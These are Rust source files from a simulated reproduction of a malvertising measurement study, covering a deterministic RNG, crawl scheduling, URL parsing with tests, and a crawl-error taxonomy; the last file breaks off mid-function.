    #[test]
    fn range_inclusive_bounds() {
        let mut rng = DetRng::new(5);
        for _ in 0..1000 {
            let v = rng.range_inclusive(3, 7);
            assert!((3..=7).contains(&v));
        }
        assert_eq!(rng.range_inclusive(4, 4), 4);
    }

    #[test]
    fn chance_extremes() {
        let mut rng = DetRng::new(1);
        assert!(!rng.chance(0.0));
        assert!(rng.chance(1.0));
        assert!(!rng.chance(-1.0));
        assert!(rng.chance(2.0));
    }

    #[test]
    fn chance_rate_rough() {
        let mut rng = DetRng::new(11);
        let hits = (0..100_000).filter(|_| rng.chance(0.25)).count();
        assert!((23_000..27_000).contains(&hits));
    }

    #[test]
    fn pick_weighted_respects_weights() {
        let mut rng = DetRng::new(13);
        let weights = [0.0, 10.0, 0.0, 1.0];
        let mut counts = [0usize; 4];
        for _ in 0..22_000 {
            counts[rng.pick_weighted(&weights).unwrap()] += 1;
        }
        assert_eq!(counts[0], 0);
        assert_eq!(counts[2], 0);
        assert!(counts[1] > counts[3] * 5);
    }

    #[test]
    fn pick_weighted_degenerate() {
        let mut rng = DetRng::new(17);
        assert_eq!(rng.pick_weighted(&[]), None);
        assert_eq!(rng.pick_weighted(&[0.0, 0.0]), None);
        assert_eq!(rng.pick_weighted(&[f64::NAN, 1.0]), Some(1));
    }

    #[test]
    fn shuffle_is_permutation() {
        let mut rng = DetRng::new(21);
        let mut v: Vec<u32> = (0..50).collect();
        rng.shuffle(&mut v);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
    }

    #[test]
    fn geometric_capped_bounds() {
        let mut rng = DetRng::new(31);
        for _ in 0..1000 {
            let k = rng.geometric_capped(0.5, 8);
            assert!((1..=8).contains(&k));
        }
        assert_eq!(rng.geometric_capped(0.0, 8), 1);
        assert_eq!(rng.geometric_capped(1.0, 8), 8);
    }

    #[test]
    fn seed_tree_paths_independent() {
        let root = SeedTree::new(7);
        let a = root.branch("adnet").rng().next_u64();
        let b = root.branch("websim").rng().next_u64();
        assert_ne!(a, b);
        let i = root.branch_idx(0).rng().next_u64();
        let j = root.branch_idx(1).rng().next_u64();
        assert_ne!(i, j);
    }

    #[test]
    fn seed_tree_replay() {
        let x = SeedTree::new(42).branch("a").branch_idx(9).rng().next_u64();
        let y = SeedTree::new(42).branch("a").branch_idx(9).rng().next_u64();
        assert_eq!(x, y);
    }

    #[test]
    fn fill_bytes_remainder() {
        let mut rng = DetRng::new(55);
        let mut buf = [0u8; 13];
        rng.fill_bytes(&mut buf);
        // Same seed reproduces same bytes.
        let mut rng2 = DetRng::new(55);
        let mut buf2 = [0u8; 13];
        rng2.fill_bytes(&mut buf2);
        assert_eq!(buf, buf2);
    }
}
