//! Simulated time and the crawl schedule.
//!
//! The paper crawled each website once per day, refreshing each page five
//! times, for three months (§3.1). [`SimTime`] is one point in that schedule:
//! a `(day, refresh)` pair plus a monotonically increasing intra-refresh tick
//! used to order events within one page load.

use serde::{Deserialize, Serialize};
use std::fmt;

/// A point in the study's simulated clock.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimTime {
    /// Day of the study, starting at 0.
    pub day: u32,
    /// Refresh index within the day's visit, starting at 0.
    pub refresh: u32,
    /// Event tick within the refresh (network request order).
    pub tick: u32,
}

impl SimTime {
    /// Start of the study.
    pub const ZERO: SimTime = SimTime {
        day: 0,
        refresh: 0,
        tick: 0,
    };

    /// Creates a time at the start of `(day, refresh)`.
    pub fn at(day: u32, refresh: u32) -> Self {
        SimTime {
            day,
            refresh,
            tick: 0,
        }
    }

    /// Returns the next tick within the same refresh.
    pub fn next_tick(self) -> Self {
        SimTime {
            tick: self.tick + 1,
            ..self
        }
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "d{}r{}t{}", self.day, self.refresh, self.tick)
    }
}

/// The crawl schedule: `days` daily visits, each with `refreshes_per_visit`
/// page refreshes — the paper used 90 days × 5 refreshes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct CrawlSchedule {
    /// Number of days in the study window.
    pub days: u32,
    /// Refreshes per daily visit (the paper used 5).
    pub refreshes_per_visit: u32,
}

impl CrawlSchedule {
    /// The paper's schedule: three months, five refreshes per visit.
    pub fn paper() -> Self {
        CrawlSchedule {
            days: 90,
            refreshes_per_visit: 5,
        }
    }

    /// A scaled-down schedule for fast runs.
    pub fn scaled(days: u32, refreshes_per_visit: u32) -> Self {
        CrawlSchedule {
            days,
            refreshes_per_visit,
        }
    }

    /// Total page loads per site over the whole study.
    pub fn loads_per_site(&self) -> u64 {
        u64::from(self.days) * u64::from(self.refreshes_per_visit)
    }

    /// Iterates every `(day, refresh)` slot in schedule order.
    pub fn slots(&self) -> impl Iterator<Item = SimTime> + '_ {
        let refreshes = self.refreshes_per_visit;
        (0..self.days)
            .flat_map(move |day| (0..refreshes).map(move |refresh| SimTime::at(day, refresh)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ordering_is_lexicographic() {
        assert!(SimTime::at(0, 4) < SimTime::at(1, 0));
        assert!(SimTime::at(2, 1) < SimTime::at(2, 2));
        let t = SimTime::at(1, 1);
        assert!(t < t.next_tick());
    }

    #[test]
    fn next_tick_preserves_day_refresh() {
        let t = SimTime::at(3, 2).next_tick().next_tick();
        assert_eq!((t.day, t.refresh, t.tick), (3, 2, 2));
    }

    #[test]
    fn paper_schedule_counts() {
        let s = CrawlSchedule::paper();
        assert_eq!(s.loads_per_site(), 450);
        assert_eq!(s.slots().count(), 450);
    }

    #[test]
    fn slots_in_order() {
        let s = CrawlSchedule::scaled(2, 3);
        let slots: Vec<_> = s.slots().collect();
        assert_eq!(slots.len(), 6);
        assert!(slots.windows(2).all(|w| w[0] < w[1]));
        assert_eq!(slots[0], SimTime::at(0, 0));
        assert_eq!(slots[5], SimTime::at(1, 2));
    }

    #[test]
    fn display_format() {
        assert_eq!(SimTime::at(1, 2).to_string(), "d1r2t0");
    }
}
