//! URL parsing and reference resolution.
//!
//! The crawler, the filter-list matcher, the honeyclient, and the analysis all
//! key on URLs, so this is a real parser rather than string splitting: scheme,
//! authority (host, optional port), path, query, and fragment, plus RFC-3986
//! relative-reference resolution (`Url::join`) including dot-segment removal.
//!
//! Not supported (documented limitations): userinfo in the authority, IPv6
//! host literals, and full percent-decoding of non-ASCII sequences.

use crate::domain::{DomainName, DomainError};
use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// Errors produced when parsing a [`Url`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum UrlError {
    /// Missing or unsupported scheme.
    BadScheme,
    /// The authority section was malformed.
    BadAuthority,
    /// The host was not a valid domain name.
    BadHost(DomainError),
    /// The port was not a number in `1..=65535`.
    BadPort,
}

impl fmt::Display for UrlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            UrlError::BadScheme => write!(f, "missing or unsupported URL scheme"),
            UrlError::BadAuthority => write!(f, "malformed URL authority"),
            UrlError::BadHost(e) => write!(f, "invalid URL host: {e}"),
            UrlError::BadPort => write!(f, "invalid URL port"),
        }
    }
}

impl std::error::Error for UrlError {}

/// URL scheme. The simulated Web speaks HTTP and HTTPS; `about:blank` is the
/// initial document of frames, matching browser behaviour.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Scheme {
    /// `http`
    Http,
    /// `https`
    Https,
    /// `about` (only `about:blank`)
    About,
}

impl Scheme {
    /// Canonical string form.
    pub fn as_str(self) -> &'static str {
        match self {
            Scheme::Http => "http",
            Scheme::Https => "https",
            Scheme::About => "about",
        }
    }

    /// Default port for the scheme (`None` for `about`).
    pub fn default_port(self) -> Option<u16> {
        match self {
            Scheme::Http => Some(80),
            Scheme::Https => Some(443),
            Scheme::About => None,
        }
    }
}

/// A parsed absolute URL.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Url {
    scheme: Scheme,
    host: Option<DomainName>,
    port: Option<u16>,
    path: String,
    query: Option<String>,
    fragment: Option<String>,
}

impl Url {
    /// Parses an absolute URL.
    pub fn parse(input: &str) -> Result<Self, UrlError> {
        let input = input.trim();
        let (scheme, rest) = if let Some(rest) = strip_scheme(input, "http") {
            (Scheme::Http, rest)
        } else if let Some(rest) = strip_scheme(input, "https") {
            (Scheme::Https, rest)
        } else if let Some(rest) = input.strip_prefix("about:") {
            return Ok(Url {
                scheme: Scheme::About,
                host: None,
                port: None,
                path: rest.to_string(),
                query: None,
                fragment: None,
            });
        } else {
            return Err(UrlError::BadScheme);
        };

        let rest = rest.strip_prefix("//").ok_or(UrlError::BadAuthority)?;

        // Split authority from path/query/fragment.
        let auth_end = rest
            .find(['/', '?', '#'])
            .unwrap_or(rest.len());
        let (authority, tail) = rest.split_at(auth_end);
        if authority.is_empty() || authority.contains('@') {
            return Err(UrlError::BadAuthority);
        }

        let (host_str, port) = match authority.rsplit_once(':') {
            Some((h, p)) => {
                let port: u16 = p.parse().map_err(|_| UrlError::BadPort)?;
                if port == 0 {
                    return Err(UrlError::BadPort);
                }
                (h, Some(port))
            }
            None => (authority, None),
        };
        let host = DomainName::parse(host_str).map_err(UrlError::BadHost)?;

        // Normalize default ports away.
        let port = match (port, scheme.default_port()) {
            (Some(p), Some(d)) if p == d => None,
            (p, _) => p,
        };

        let (path, query, fragment) = split_tail(tail);
        Ok(Url {
            scheme,
            host: Some(host),
            port,
            path: if path.is_empty() {
                "/".to_string()
            } else {
                remove_dot_segments(path)
            },
            query,
            fragment,
        })
    }

    /// The canonical `about:blank` URL.
    pub fn about_blank() -> Self {
        Url {
            scheme: Scheme::About,
            host: None,
            port: None,
            path: "blank".to_string(),
            query: None,
            fragment: None,
        }
    }

    /// Builds an `http://host/path` URL from components, panicking on invalid
    /// input — intended for generator code with known-good inputs. Anything
    /// handling crawl input (attacker-controlled hosts or paths) must use
    /// [`Url::try_from_parts`] instead.
    pub fn from_parts(scheme: Scheme, host: &str, path: &str) -> Self {
        Url::try_from_parts(scheme, host, path).expect("from_parts: invalid host")
    }

    /// Fallible form of [`Url::from_parts`]: builds a URL from components,
    /// returning an error for hosts that are not valid domain names (empty
    /// hosts included). Use this for anything derived from crawl input.
    pub fn try_from_parts(scheme: Scheme, host: &str, path: &str) -> Result<Self, UrlError> {
        let host = DomainName::parse(host).map_err(UrlError::BadHost)?;
        Ok(Url {
            scheme,
            host: Some(host),
            port: None,
            path: if path.starts_with('/') {
                remove_dot_segments(path)
            } else {
                format!("/{path}")
            },
            query: None,
            fragment: None,
        })
    }

    /// Scheme accessor.
    pub fn scheme(&self) -> Scheme {
        self.scheme
    }

    /// Host accessor (`None` for `about:` URLs).
    pub fn host(&self) -> Option<&DomainName> {
        self.host.as_ref()
    }

    /// Explicit port, when different from the scheme default.
    pub fn port(&self) -> Option<u16> {
        self.port
    }

    /// Effective port (explicit port or scheme default).
    pub fn effective_port(&self) -> Option<u16> {
        self.port.or_else(|| self.scheme.default_port())
    }

    /// Path accessor (always starts with `/` for http(s) URLs).
    pub fn path(&self) -> &str {
        &self.path
    }

    /// Query string without the leading `?`, when present.
    pub fn query(&self) -> Option<&str> {
        self.query.as_deref()
    }

    /// Fragment without the leading `#`, when present.
    pub fn fragment(&self) -> Option<&str> {
        self.fragment.as_deref()
    }

    /// Returns a copy with the given query string (no leading `?`).
    pub fn with_query(mut self, query: &str) -> Self {
        self.query = Some(query.to_string());
        self
    }

    /// Iterates `(key, value)` pairs of the query string.
    pub fn query_pairs(&self) -> impl Iterator<Item = (&str, &str)> {
        self.query
            .as_deref()
            .unwrap_or("")
            .split('&')
            .filter(|kv| !kv.is_empty())
            .map(|kv| match kv.split_once('=') {
                Some((k, v)) => (k, v),
                None => (kv, ""),
            })
    }

    /// Looks up the first query parameter named `key`.
    pub fn query_param(&self, key: &str) -> Option<&str> {
        self.query_pairs().find(|(k, _)| *k == key).map(|(_, v)| v)
    }

    /// True when both URLs share scheme, host, and effective port — the
    /// same-origin policy triple that governs frame access in the browser.
    pub fn same_origin(&self, other: &Url) -> bool {
        self.scheme == other.scheme
            && self.host == other.host
            && self.effective_port() == other.effective_port()
    }

    /// Resolves `reference` against `self` per RFC 3986 §5 (the subset without
    /// userinfo/IPv6). Absolute references parse on their own; others inherit
    /// components from the base.
    pub fn join(&self, reference: &str) -> Result<Url, UrlError> {
        let reference = reference.trim();
        // Absolute URL?
        if let Ok(url) = Url::parse(reference) {
            return Ok(url);
        }
        // Protocol-relative: `//host/path`.
        if let Some(rest) = reference.strip_prefix("//") {
            return Url::parse(&format!("{}://{}", self.scheme.as_str(), rest));
        }
        let base_host = self.host.clone();
        if base_host.is_none() {
            return Err(UrlError::BadAuthority);
        }
        if let Some(frag) = reference.strip_prefix('#') {
            let mut url = self.clone();
            url.fragment = Some(frag.to_string());
            return Ok(url);
        }
        let (path_part, query, fragment) = split_tail(reference);
        let new_path = if path_part.starts_with('/') {
            remove_dot_segments(path_part)
        } else if path_part.is_empty() {
            // Query-only reference keeps the base path.
            self.path.clone()
        } else {
            // Merge with the base path's directory.
            let dir = match self.path.rfind('/') {
                Some(idx) => &self.path[..=idx],
                None => "/",
            };
            remove_dot_segments(&format!("{dir}{path_part}"))
        };
        Ok(Url {
            scheme: self.scheme,
            host: base_host,
            port: self.port,
            path: new_path,
            query: query.or_else(|| {
                if path_part.is_empty() && fragment.is_some() {
                    self.query.clone()
                } else {
                    None
                }
            }),
            fragment,
        })
    }

    /// Serializes without the fragment (the on-the-wire request form).
    pub fn without_fragment(&self) -> String {
        let mut s = String::new();
        self.write_prefix(&mut s);
        s
    }

    /// Writes the match-normalized form — fragment stripped and ASCII
    /// lowercased — into `buf`, reusing its allocation. Equivalent to
    /// `without_fragment().to_ascii_lowercase()` without the two fresh
    /// `String`s; the filter-list hot path calls this once per request.
    pub fn normalize_into(&self, buf: &mut String) {
        buf.clear();
        self.write_prefix(buf);
        buf.make_ascii_lowercase();
    }

    fn write_prefix(&self, s: &mut String) {
        s.push_str(self.scheme.as_str());
        if self.scheme == Scheme::About {
            s.push(':');
            s.push_str(&self.path);
            return;
        }
        s.push_str("://");
        if let Some(h) = &self.host {
            s.push_str(h.as_str());
        }
        if let Some(p) = self.port {
            s.push(':');
            s.push_str(&p.to_string());
        }
        s.push_str(&self.path);
        if let Some(q) = &self.query {
            s.push('?');
            s.push_str(q);
        }
    }
}

impl fmt::Display for Url {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut s = String::new();
        self.write_prefix(&mut s);
        if let Some(frag) = &self.fragment {
            s.push('#');
            s.push_str(frag);
        }
        f.write_str(&s)
    }
}

impl FromStr for Url {
    type Err = UrlError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Url::parse(s)
    }
}

fn strip_scheme<'a>(input: &'a str, scheme: &str) -> Option<&'a str> {
    let prefix_len = scheme.len() + 1;
    let head = input.get(..scheme.len())?;
    let rest = input.get(prefix_len..)?;
    if head.eq_ignore_ascii_case(scheme)
        && input.as_bytes()[scheme.len()] == b':'
        && rest.starts_with("//")
    {
        Some(rest)
    } else {
        None
    }
}

/// Splits `path?query#fragment` into its three parts.
fn split_tail(tail: &str) -> (&str, Option<String>, Option<String>) {
    let (before_frag, fragment) = match tail.split_once('#') {
        Some((b, f)) => (b, Some(f.to_string())),
        None => (tail, None),
    };
    let (path, query) = match before_frag.split_once('?') {
        Some((p, q)) => (p, Some(q.to_string())),
        None => (before_frag, None),
    };
    (path, query, fragment)
}

/// RFC 3986 §5.2.4 dot-segment removal.
fn remove_dot_segments(path: &str) -> String {
    let mut output: Vec<&str> = Vec::new();
    let absolute = path.starts_with('/');
    let trailing_slash = path.ends_with('/') || path.ends_with("/.") || path.ends_with("/..");
    for seg in path.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                output.pop();
            }
            s => output.push(s),
        }
    }
    let mut result = String::new();
    if absolute {
        result.push('/');
    }
    result.push_str(&output.join("/"));
    if trailing_slash && !result.ends_with('/') {
        result.push('/');
    }
    if result.is_empty() {
        result.push('/');
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_basic() {
        let u = Url::parse("http://example.com/a/b?x=1&y=2#frag").unwrap();
        assert_eq!(u.scheme(), Scheme::Http);
        assert_eq!(u.host().unwrap().as_str(), "example.com");
        assert_eq!(u.path(), "/a/b");
        assert_eq!(u.query(), Some("x=1&y=2"));
        assert_eq!(u.fragment(), Some("frag"));
        assert_eq!(u.effective_port(), Some(80));
    }

    #[test]
    fn parse_https_with_port() {
        let u = Url::parse("https://ads.example.net:8443/serve").unwrap();
        assert_eq!(u.scheme(), Scheme::Https);
        assert_eq!(u.port(), Some(8443));
        assert_eq!(u.effective_port(), Some(8443));
    }

    #[test]
    fn default_port_normalized() {
        let u = Url::parse("http://example.com:80/").unwrap();
        assert_eq!(u.port(), None);
        assert_eq!(u.to_string(), "http://example.com/");
        let u = Url::parse("https://example.com:443/").unwrap();
        assert_eq!(u.port(), None);
    }

    #[test]
    fn parse_empty_path_becomes_root() {
        let u = Url::parse("http://example.com").unwrap();
        assert_eq!(u.path(), "/");
        assert_eq!(u.to_string(), "http://example.com/");
    }

    #[test]
    fn parse_rejects_bad_inputs() {
        assert_eq!(Url::parse("ftp://example.com/"), Err(UrlError::BadScheme));
        assert_eq!(Url::parse("http:/example.com"), Err(UrlError::BadScheme));
        assert_eq!(Url::parse("http://"), Err(UrlError::BadAuthority));
        assert_eq!(
            Url::parse("http://user@example.com/"),
            Err(UrlError::BadAuthority)
        );
        assert_eq!(Url::parse("http://example.com:0/"), Err(UrlError::BadPort));
        assert_eq!(
            Url::parse("http://example.com:banana/"),
            Err(UrlError::BadPort)
        );
        assert!(matches!(
            Url::parse("http://bad host/"),
            Err(UrlError::BadHost(_))
        ));
    }

    #[test]
    fn about_blank() {
        let u = Url::parse("about:blank").unwrap();
        assert_eq!(u, Url::about_blank());
        assert_eq!(u.to_string(), "about:blank");
        assert!(u.host().is_none());
    }

    #[test]
    fn scheme_case_insensitive() {
        let u = Url::parse("HTTP://EXAMPLE.com/Path").unwrap();
        assert_eq!(u.scheme(), Scheme::Http);
        assert_eq!(u.host().unwrap().as_str(), "example.com");
        // Path case is preserved.
        assert_eq!(u.path(), "/Path");
    }

    #[test]
    fn join_absolute_reference() {
        let base = Url::parse("http://a.com/x/y").unwrap();
        let joined = base.join("https://b.com/z").unwrap();
        assert_eq!(joined.to_string(), "https://b.com/z");
    }

    #[test]
    fn join_protocol_relative() {
        let base = Url::parse("https://a.com/x").unwrap();
        let joined = base.join("//cdn.b.com/lib.js").unwrap();
        assert_eq!(joined.to_string(), "https://cdn.b.com/lib.js");
    }

    #[test]
    fn join_rooted_path() {
        let base = Url::parse("http://a.com/x/y?q=1").unwrap();
        let joined = base.join("/z").unwrap();
        assert_eq!(joined.to_string(), "http://a.com/z");
    }

    #[test]
    fn join_relative_path() {
        let base = Url::parse("http://a.com/x/y").unwrap();
        assert_eq!(base.join("z").unwrap().to_string(), "http://a.com/x/z");
        assert_eq!(base.join("./z").unwrap().to_string(), "http://a.com/x/z");
        assert_eq!(base.join("../z").unwrap().to_string(), "http://a.com/z");
        assert_eq!(
            base.join("../../../z").unwrap().to_string(),
            "http://a.com/z"
        );
    }

    #[test]
    fn join_fragment_only() {
        let base = Url::parse("http://a.com/x?q=1").unwrap();
        let joined = base.join("#top").unwrap();
        assert_eq!(joined.to_string(), "http://a.com/x?q=1#top");
    }

    #[test]
    fn join_query_reference() {
        let base = Url::parse("http://a.com/x/y").unwrap();
        let joined = base.join("?page=2").unwrap();
        assert_eq!(joined.to_string(), "http://a.com/x/y?page=2");
    }

    #[test]
    fn join_from_about_fails() {
        let base = Url::about_blank();
        assert!(base.join("relative/path").is_err());
        // Absolute still works.
        assert!(base.join("http://a.com/").is_ok());
    }

    #[test]
    fn query_pairs_and_param() {
        let u = Url::parse("http://a.com/?a=1&b=&c&a=2").unwrap();
        let pairs: Vec<_> = u.query_pairs().collect();
        assert_eq!(pairs, vec![("a", "1"), ("b", ""), ("c", ""), ("a", "2")]);
        assert_eq!(u.query_param("a"), Some("1"));
        assert_eq!(u.query_param("missing"), None);
    }

    #[test]
    fn same_origin_triple() {
        let a = Url::parse("http://a.com/x").unwrap();
        let b = Url::parse("http://a.com:80/y?z=1").unwrap();
        let c = Url::parse("https://a.com/x").unwrap();
        let d = Url::parse("http://b.com/x").unwrap();
        assert!(a.same_origin(&b));
        assert!(!a.same_origin(&c));
        assert!(!a.same_origin(&d));
    }

    #[test]
    fn dot_segment_removal() {
        assert_eq!(remove_dot_segments("/a/b/c/./../../g"), "/a/g");
        assert_eq!(remove_dot_segments("/../x"), "/x");
        assert_eq!(remove_dot_segments("/a/b/"), "/a/b/");
        assert_eq!(remove_dot_segments("/"), "/");
    }

    #[test]
    fn without_fragment_strips_fragment() {
        let u = Url::parse("http://a.com/x#frag").unwrap();
        assert_eq!(u.without_fragment(), "http://a.com/x");
    }

    #[test]
    fn normalize_into_matches_allocating_form() {
        let mut buf = String::from("stale contents");
        for s in [
            "http://a.com/MiXeD/Case?Q=Upper#Frag",
            "https://h.net:8080/p",
            "about:blank",
        ] {
            let u = Url::parse(s).unwrap();
            u.normalize_into(&mut buf);
            assert_eq!(buf, u.without_fragment().to_ascii_lowercase());
        }
    }

    #[test]
    fn try_from_parts_rejects_bad_hosts_without_panicking() {
        assert!(matches!(
            Url::try_from_parts(Scheme::Http, "", "/x"),
            Err(UrlError::BadHost(_))
        ));
        assert!(matches!(
            Url::try_from_parts(Scheme::Https, "bad host", "index.html"),
            Err(UrlError::BadHost(_))
        ));
        let ok = Url::try_from_parts(Scheme::Http, "a.com", "x/y").unwrap();
        assert_eq!(ok.to_string(), "http://a.com/x/y");
    }

    #[test]
    fn hostile_crawl_inputs_never_panic() {
        // Odd ports, empty hosts, and junk references must all come back as
        // typed errors — a crawled page can contain any of these.
        for bad in [
            "http://:8080/",
            "http://example.com:99999/",
            "http://example.com:-1/",
            "http:///orphan-path",
            "http://exa mple.com/",
            "http://example.com:80:80/",
            "https://",
            "http://#",
            "http://?q=1",
        ] {
            assert!(Url::parse(bad).is_err(), "expected parse error for {bad}");
        }
        let base = Url::parse("http://a.com/x/y").unwrap();
        for reference in [
            "",
            "#",
            "?",
            "//",
            "//:9/",
            "../../..",
            "http://:0/",
            ":::",
            "%%%",
        ] {
            // Joins may fail, but must never panic.
            let _ = base.join(reference);
        }
    }

    #[test]
    fn display_roundtrip() {
        for s in [
            "http://example.com/",
            "https://a.b.co.uk/path/to?x=1",
            "http://h.net:8080/p#f",
        ] {
            assert_eq!(Url::parse(s).unwrap().to_string(), s);
        }
    }
}
