//! # malvert-types
//!
//! Shared vocabulary for the malvertising measurement study — the reproduction of
//! *"The Dark Alleys of Madison Avenue: Understanding Malicious Advertisements"*
//! (IMC 2014).
//!
//! Every other crate in the workspace builds on these primitives:
//!
//! * [`rng`] — a self-contained, deterministic random-number substrate
//!   (SplitMix64 seeding + xoshiro256\*\* generation) with hierarchical seed
//!   derivation, so that a single `u64` study seed reproduces the entire
//!   simulated Web, ad economy, crawl, and analysis byte-for-byte.
//! * [`domain`] — DNS names, top-level-domain classification, and
//!   registered-domain (eTLD+1) extraction against a public-suffix snapshot.
//! * [`url`] — an RFC-3986-shaped URL parser and reference-resolution
//!   implementation covering the subset of the grammar that appears in web
//!   traffic: scheme, authority, path, query, fragment, and relative joins.
//! * [`time`] — the simulated clock: the study runs for a configurable number
//!   of days, visiting each site once per day and refreshing each page five
//!   times, exactly like the paper's crawl schedule.
//! * [`id`] — small typed identifiers for sites, ad networks, campaigns,
//!   creatives, and payloads.
//! * [`category`] — the website-content taxonomy used by Figure 3.
//! * [`errors`] — the typed crawl-error taxonomy and the per-class counters
//!   that flow from each page visit up into the run summary.
//!
//! ## Supported / not supported
//!
//! * Deterministic replay across platforms **is** supported: no `HashMap`
//!   iteration order, system time, or thread scheduling feeds any result.
//! * Internationalized domain names (punycode) are **not** supported; the
//!   simulated Web is ASCII.
//! * Percent-encoding is decoded for the characters that occur in simulated
//!   traffic; exotic encodings are passed through verbatim.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod category;
pub mod domain;
pub mod errors;
pub mod id;
pub mod rng;
pub mod time;
pub mod url;

pub use category::SiteCategory;
pub use domain::{DomainName, RegisteredDomain, Tld, TldClass};
pub use errors::{CrawlError, CrawlErrorClass, ErrorCounters};
pub use id::{AdNetworkId, CampaignId, CreativeId, PageId, PayloadId, SiteId};
pub use rng::{DetRng, SeedTree};
pub use time::{CrawlSchedule, SimTime};
pub use url::Url;
