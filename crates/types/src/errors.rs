//! Typed crawl-error taxonomy.
//!
//! A live crawl meets a hostile Web: dead resolvers, 5xx storms, reset
//! connections, truncated transfers, and malformed markup. The paper's
//! three-month crawl survived all of these; the reproduction classifies every
//! failure it encounters into one of the classes below so a failing host
//! degrades a single visit — never the run — and the run report can account
//! for exactly what went wrong and how often.
//!
//! Everything here is deterministic: error classes and counts are pure
//! functions of the study seed (faults are injected from the seed tree), so
//! the counters survive `RunSummary::without_timings` and are byte-identical
//! at any worker count.

use crate::url::Url;
use serde::{Deserialize, Serialize};
use std::fmt;

/// The class of a crawl failure — the typed taxonomy threaded through the
/// network substrate, browser, crawler, and oracle.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CrawlErrorClass {
    /// DNS resolution failed (NXDOMAIN, including injected resolver flaps).
    Dns,
    /// The origin answered with a 5xx status.
    Http5xx,
    /// The request exceeded its time budget (slow or wedged host).
    Timeout,
    /// The connection was reset before a response arrived.
    ConnectionReset,
    /// The response body was cut short mid-transfer.
    TruncatedBody,
    /// The document arrived but its markup was corrupted.
    MalformedHtml,
    /// Redirect handling failed: a cycle, too many hops, a missing or
    /// unresolvable `Location`, or a redirect into a non-fetchable scheme.
    Redirect,
}

impl CrawlErrorClass {
    /// Every class, in taxonomy order.
    pub const ALL: [CrawlErrorClass; 7] = [
        CrawlErrorClass::Dns,
        CrawlErrorClass::Http5xx,
        CrawlErrorClass::Timeout,
        CrawlErrorClass::ConnectionReset,
        CrawlErrorClass::TruncatedBody,
        CrawlErrorClass::MalformedHtml,
        CrawlErrorClass::Redirect,
    ];

    /// Stable snake_case label, matching the serde spelling.
    pub fn label(self) -> &'static str {
        match self {
            CrawlErrorClass::Dns => "dns",
            CrawlErrorClass::Http5xx => "http5xx",
            CrawlErrorClass::Timeout => "timeout",
            CrawlErrorClass::ConnectionReset => "connection_reset",
            CrawlErrorClass::TruncatedBody => "truncated_body",
            CrawlErrorClass::MalformedHtml => "malformed_html",
            CrawlErrorClass::Redirect => "redirect",
        }
    }
}

impl fmt::Display for CrawlErrorClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// One classified failure observed during a page visit: which class, where,
/// how many fetch attempts were spent, and whether a retry eventually
/// recovered the resource.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CrawlError {
    /// Failure class.
    pub class: CrawlErrorClass,
    /// The URL whose fetch failed (or arrived damaged).
    pub url: Url,
    /// Fetch attempts spent on this URL (1 = no retry).
    pub attempts: u32,
    /// True when a retry eventually produced a usable response.
    pub recovered: bool,
}

impl fmt::Display for CrawlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} at {} ({} attempt{}{})",
            self.class,
            self.url,
            self.attempts,
            if self.attempts == 1 { "" } else { "s" },
            if self.recovered { ", recovered" } else { "" },
        )
    }
}

/// Per-class error totals, aggregated visit → crawl → run summary.
///
/// All counts are deterministic (faults are a pure function of the seed), so
/// these survive timing-stripping and must agree byte-for-byte across worker
/// counts.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ErrorCounters {
    /// DNS failures (genuine NXDOMAIN plus injected flaps).
    pub dns_failures: u64,
    /// 5xx responses observed.
    pub http_5xx: u64,
    /// Requests that exceeded their time budget.
    pub timeouts: u64,
    /// Connections reset mid-request.
    pub connection_resets: u64,
    /// Bodies cut short mid-transfer.
    pub truncated_bodies: u64,
    /// Documents delivered with corrupted markup.
    pub malformed_html: u64,
    /// Redirect failures (cycles, hop caps, bad `Location`).
    pub redirect_failures: u64,
    /// Fetch retries performed (attempts beyond the first).
    pub retries: u64,
    /// Visits that loaded a document but lost some subresources.
    pub degraded_visits: u64,
    /// Visits whose top document never loaded.
    pub failed_visits: u64,
}

impl ErrorCounters {
    /// Bumps the counter for one failure class.
    pub fn record(&mut self, class: CrawlErrorClass) {
        match class {
            CrawlErrorClass::Dns => self.dns_failures += 1,
            CrawlErrorClass::Http5xx => self.http_5xx += 1,
            CrawlErrorClass::Timeout => self.timeouts += 1,
            CrawlErrorClass::ConnectionReset => self.connection_resets += 1,
            CrawlErrorClass::TruncatedBody => self.truncated_bodies += 1,
            CrawlErrorClass::MalformedHtml => self.malformed_html += 1,
            CrawlErrorClass::Redirect => self.redirect_failures += 1,
        }
    }

    /// Folds another set of counters into this one.
    pub fn merge(&mut self, other: &ErrorCounters) {
        self.dns_failures += other.dns_failures;
        self.http_5xx += other.http_5xx;
        self.timeouts += other.timeouts;
        self.connection_resets += other.connection_resets;
        self.truncated_bodies += other.truncated_bodies;
        self.malformed_html += other.malformed_html;
        self.redirect_failures += other.redirect_failures;
        self.retries += other.retries;
        self.degraded_visits += other.degraded_visits;
        self.failed_visits += other.failed_visits;
